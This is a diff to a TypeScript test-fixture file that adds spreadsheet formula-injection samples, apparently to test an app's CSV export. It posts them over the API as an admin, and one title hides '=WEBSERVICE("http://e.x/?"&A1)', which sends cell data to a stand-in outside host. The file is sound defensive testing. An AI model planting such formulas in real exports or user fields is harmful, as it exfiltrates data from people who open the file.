@@ -2,6 +2,8 @@ import type { Kysely } from 'kysely';
 import { newId } from '../src/db/ids.ts';
 import type { Database, NewInitiativeRow } from '../src/db/schema.ts';
 import { searchText } from '../src/initiatives/search-text.ts';
+import { jsonHeaders, loginAs } from './auth-helpers.ts';
+import type { TestApp } from './test-app.ts';
 
 /** Test-only text that spreadsheets and CSV writers get wrong; none of it is real data. */
 export const trickyTexts = [
@@ -121,4 +123,37 @@ export async function insertChange(db: Kysely<Database>, change: ChangeInput): P
     })
     .execute();
   return id;
+}
+
+/** The status note of the fault report: a bare line break, then a formula. */
+export const hostileNote = 'Проверено на месте\n=1+2';
+
+/** Titles and summaries an official can type that hide a formula behind a line break, the other separator, a sign. */
+export const hostileInitiative = {
+  id: 'hostile-cells',
+  kind: 'practice',
+  title: { ru: 'Заголовок\r=HYPERLINK("http://e.x")', en: 'x;=WEBSERVICE("http://e.x/?"&A1)' },
+  summary: { ru: '＝1+2', en: '@SUM(1)\n-2+3' },
+  ownerId: 'senate',
+  region: 'KZ-AKT',
+  tags: [],
+  noSource: true,
+} as const;
+
+/** Records the hostile initiative and a status change with the hostile note, over HTTP as an official would. */
+export async function recordHostileCells(app: TestApp): Promise<void> {
+  const cookie = await loginAs(app, 'admin');
+  const created = await app.fetch('/api/initiatives', {
+    method: 'POST',
+    headers: jsonHeaders(cookie),
+    body: JSON.stringify(hostileInitiative),
+  });
+  if (created.status !== 201) throw new Error(`create answered ${created.status}: ${await created.text()}`);
+  const { version } = await app.json(`/api/initiatives/${hostileInitiative.id}`);
+  const patched = await app.fetch(`/api/initiatives/${hostileInitiative.id}`, {
+    method: 'PATCH',
+    headers: jsonHeaders(cookie),
+    body: JSON.stringify({ version, status: 'in_progress', note: hostileNote }),
+  });
+  if (patched.status !== 200) throw new Error(`patch answered ${patched.status}: ${await patched.text()}`);
 }
